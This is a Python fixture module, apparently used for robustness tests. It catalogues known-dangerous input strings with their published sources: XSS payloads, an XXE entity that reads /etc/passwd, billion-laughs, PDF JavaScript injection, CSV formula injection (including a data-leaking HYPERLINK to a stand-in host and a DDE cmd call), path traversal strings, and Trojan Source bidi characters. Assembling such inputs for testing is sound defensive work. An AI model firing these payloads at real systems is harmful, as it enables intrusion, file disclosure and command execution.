"""Strings that have broken other programs, each with the place that published it."""

OWASP_XSS = "OWASP XSS Filter Evasion Cheat Sheet, cheatsheetseries.owasp.org"
OWASP_CSV = "OWASP CSV Injection, owasp.org/www-community/attacks/CSV_Injection"
OWASP_PATH = "OWASP Path Traversal, owasp.org/www-community/attacks/Path_Traversal"
XML = "W3C XML 1.0, 2.4 and 2.7 (text holds no ]]>, CDATA ends with it), www.w3.org/TR/xml"
XXE = "OWASP XXE Prevention Cheat Sheet, cheatsheetseries.owasp.org"
LAUGHS = "CWE-776 (billion laughs), cwe.mitre.org/data/definitions/776.html"
TROJAN = "CVE-2021-42574, trojansource.codes (Boucher and Anderson 2021)"
QT = "Qt 6, Qt::mightBeRichText and QLabel::textFormat, doc.qt.io/qt-6/qt.html#mightBeRichText"
QT_TITLE = "Qt 6, QWidget::windowTitle: [*] stands for the modified mark, doc.qt.io"
PDF = "ISO 32000-1, 7.3.4 strings and 12.6.4.16 JavaScript actions"
NAMES = "learn.microsoft.com/windows/win32/fileio/naming-a-file (reserved names, last dots)"
PERCENT = "CWE-134, cwe.mitre.org/data/definitions/134.html"

MARKUP = (
    ("<script>alert(1)</script>", OWASP_XSS),
    ("<IMG SRC=\"javascript:alert('XSS');\">", OWASP_XSS),
    ('"><svg onload=alert(1)>', OWASP_XSS),
    ("'';!--\"<XSS>=&{()}", OWASP_XSS),
    ('<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', OWASP_XSS),
    ("<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>", OWASP_XSS),
    ("</title><script>alert(1)</script>", OWASP_XSS),
    ("</style><script>alert(1)</script>", OWASP_XSS),
    ("<!--<script>alert(1)//-->", OWASP_XSS),
    ("<foreignObject><body onload=alert(1)>", OWASP_XSS),
    ("]]><x>", XML),
    ("<![CDATA[x]]>", XML),
    ("--><x><!--", XML),
    ("<?xml version='1.0'?><x/>", XML),
    ("<?php x ?>", XML),
    ("<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", XXE),
    ("<!DOCTYPE l [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;'>]>&b;", LAUGHS),
    ("&lt;b&gt; &amp; &nbsp; &#60;b&#62;", XML),
    ("<b>bold</b>", QT),
    ("<img src='file:///dev/zero'>", QT),
    ("<table><tr><td>x</td></tr></table>", QT),
    ("A &lt;b", QT),
    (") Tj ET /JS (app.alert(1)) (", PDF),
    (r"\) \( \\ /OpenAction << /S /JavaScript >>", PDF),
    ("%s %n %d {0} {design} %1 %2", PERCENT),
)
FORMULAS = (
    ("=1+1", OWASP_CSV),
    ("+1+1", OWASP_CSV),
    ("-1+1", OWASP_CSV),
    ("@SUM(1+1)", OWASP_CSV),
    ('=HYPERLINK("http://x.invalid?leak="&A1,"x")', OWASP_CSV),
    ("=cmd|' /C calc'!A0", OWASP_CSV),
    ('";=1+1', OWASP_CSV),
)
PATHS = (
    ("../../../etc/passwd", OWASP_PATH),
    ("..\\..\\windows\\win.ini", OWASP_PATH),
    ("/etc/passwd", OWASP_PATH),
    ("%2e%2e%2f%2e%2e%2f", OWASP_PATH),
    ("C:\\x", OWASP_PATH),
    ("file:///etc/passwd", OWASP_PATH),
    ("CON", NAMES),
    ("nul.txt", NAMES),
    ("COM1", NAMES),
    ("lpt9", NAMES),
    ("COM¹", NAMES),
    ("name. . .", NAMES),
    ("a:b*c?d", NAMES),
    ("-rf --help", "common practice"),
    (".hidden", "common practice"),
    ("&File [*] &&x", QT_TITLE),
)
ALL = MARKUP + FORMULAS + PATHS

REFUSED = (
    ("abc\u202edef", TROJAN),
    ("abc\u2066def\u2069", TROJAN),
    ("abc\u202adef", TROJAN),
    ("a\u2028b", "RFC 8259 and ECMA-262: U+2028 ends a line of script"),
    ("a\x9b31mb", "ECMA-48, 8.3.16: CSI as one sign, which terminals obey"),
    ("a\x85b", "Unicode 15, 5.8: NEL ends a line"),
    ("a\x1b]0;x\x07", "ECMA-48: escape sequences"),
    ("a\x00b", XML),
)
"""Signs that no text of a design may hold: they turn the text around them, or end its line."""
